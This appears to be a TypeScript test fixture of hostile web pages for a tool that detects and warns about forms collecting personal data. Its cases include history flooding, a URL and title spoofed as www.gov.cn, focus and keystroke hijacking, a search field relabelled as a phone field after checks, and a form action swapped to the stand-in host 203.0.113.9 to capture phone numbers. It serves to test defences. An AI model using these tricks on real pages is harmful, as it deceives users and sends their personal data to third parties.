import {
  HOST,
  type HostilePage,
  PHONE,
  PHONE_FORM,
  page,
  script,
  VOTE_FORM,
  votePage,
  WARNS,
} from '../hostile-page.ts';

export default [
  {
    id: 'floods-the-history',
    lesson: 13,
    files: () => ({
      '': votePage(`let n = 0; setInterval(() => { try { history.pushState(0, '', '?' + ++n); } catch {} }, 30);`),
    }),
    find: WARNS,
    pageMayNotice: 'notice',
    isRestless: true,
    // Both browsers hold such a page back, and say so.
    ownNoise: /throttl|too many|insecure|History/i,
  },
  {
    id: 'takes-the-path-of-another',
    lesson: 14,
    files: () => ({
      '': votePage(
        `history.replaceState(0, '', '/https:%2F%2Fwww.gov.cn/official/?host=www.gov.cn');document.title = '中国政府网 www.gov.cn';`,
      ),
    }),
    find: WARNS,
    pageMayNotice: 'notice',
    async act(visit) {
      const state = await visit.state();
      if (state.kind !== 'report' || state.site !== HOST) throw new Error(`The popup names ${JSON.stringify(state)}.`);
    },
  },
  {
    id: 'goes-away-and-comes-back',
    lesson: 19,
    files: () => ({ '': votePage(), article: page('<h1>一篇文章</h1><p>谈谈投票</p>') }),
    find: WARNS,
    pageMayNotice: 'notice',
    isRestless: true,
    async act(visit, link) {
      await visit.goto(link('article'));
      await visit.until(`location.pathname.endsWith('article') && document.readyState === 'complete'`);
      await visit.untilState('silent');
      await visit.back();
      await visit.untilFound({ ...WARNS, at: '/' });
      await visit.untilNotice(true);
    },
  },
  {
    id: 'reloads-itself-at-once',
    lesson: 19,
    files: () => ({
      '': votePage(
        `const n = Number(sessionStorage.n ?? 0); sessionStorage.n = n + 1; if (n < 6) setTimeout(() => location.reload(), 120 * n);`,
      ),
    }),
    find: WARNS,
    pageMayNotice: 'notice',
    isRestless: true,
    async act(visit) {
      await visit.until('sessionStorage.n > 6');
      await visit.untilFound(WARNS);
      await visit.untilNotice(true);
    },
  },
  {
    id: 'steals-the-focus',
    lesson: 24,
    files: () => ({
      '': votePage(
        `setInterval(() => document.querySelector('input').focus(), 5); addEventListener('blur', () => focus()); addEventListener('keydown', (e) => e.stopImmediatePropagation(), true);`,
      ),
    }),
    find: WARNS,
    pageMayNotice: 'notice',
    isRestless: true,
  },
  {
    id: 'sends-by-script',
    lesson: 24,
    files: () => ({ '': votePage(), send: page('<p>谢谢</p>') }),
    find: WARNS,
    pageMayNotice: 'notice',
    isRestless: true,
    async act(visit, link) {
      await visit.inPage(
        `(() => { document.forms[0].action = ${JSON.stringify(link('send'))}; document.forms[0].method = 'get'; HTMLFormElement.prototype.submit.call(document.forms[0]); })()`,
      );
      await visit.until(`location.pathname.endsWith('/send')`);
      await visit.untilState('silent');
    },
  },
  {
    id: 'swaps-the-label-after-the-check',
    lesson: 24,
    files: () => ({ '': page('<form><label id="l">搜索 <input name="q" placeholder="搜索"></label></form>') }),
    find: { kinds: [] },
    not: ['phone'],
    pageMayNotice: 'notice',
    isRestless: true,
    async act(visit) {
      await visit.inPage(
        `(() => { const i = document.querySelector('input'); document.getElementById('l').firstChild.data = '手机号 '; i.placeholder = '请输入手机号'; i.name = 'mobile'; })()`,
      );
      await visit.untilFound({ kinds: ['phone'], label: '手机号' });
    },
  },
  {
    id: 'reveals-a-step-by-rule-alone',
    lesson: 24,
    files: () => ({
      '': page(
        `<style>.two{display:none} #s:checked ~ .two{display:block}</style><input type="checkbox" id="s"><label for="s">开始</label><div class="two">${PHONE_FORM}</div>`,
      ),
    }),
    find: PHONE,
    pageMayNotice: 'notice',
    async act(visit) {
      await visit.inPage(`document.getElementById('s').click()`);
      await visit.until('document.querySelector("[type=tel]").checkVisibility()');
      await visit.untilFound(PHONE);
    },
  },
  {
    id: 'swaps-where-it-is-sent',
    lesson: 24,
    files: () => ({ '': page(PHONE_FORM + script('var f = document.forms[0];')) }),
    find: PHONE,
    pageMayNotice: 'notice',
    ownChanges: ['attributes action of FORM', 'attributes class of INPUT'],
    async act(visit) {
      await visit.inPage(
        `(() => { f.setAttribute('action', 'http://203.0.113.9/take'); document.querySelector('input').className = 'x'; })()`,
      );
      await visit.untilFound({ ...PHONE, sentTo: 'http://203.0.113.9/take' });
    },
  },
  {
    id: 'a-form-after-a-long-silence',
    lesson: 11,
    files: () => ({
      '': page(
        `<p>…</p>${script(`setTimeout(() => document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(VOTE_FORM)}), 1500);`)}`,
      ),
    }),
    find: WARNS,
    pageMayNotice: 'notice',
    isRestless: true,
  },
  {
    id: 'asks-before-it-lets-go',
    lesson: 24,
    files: () => ({ '': votePage(`onbeforeunload = (e) => { e.preventDefault(); return 'own'; };`) }),
    find: WARNS,
    pageMayNotice: 'notice',
  },
] satisfies readonly HostilePage[];
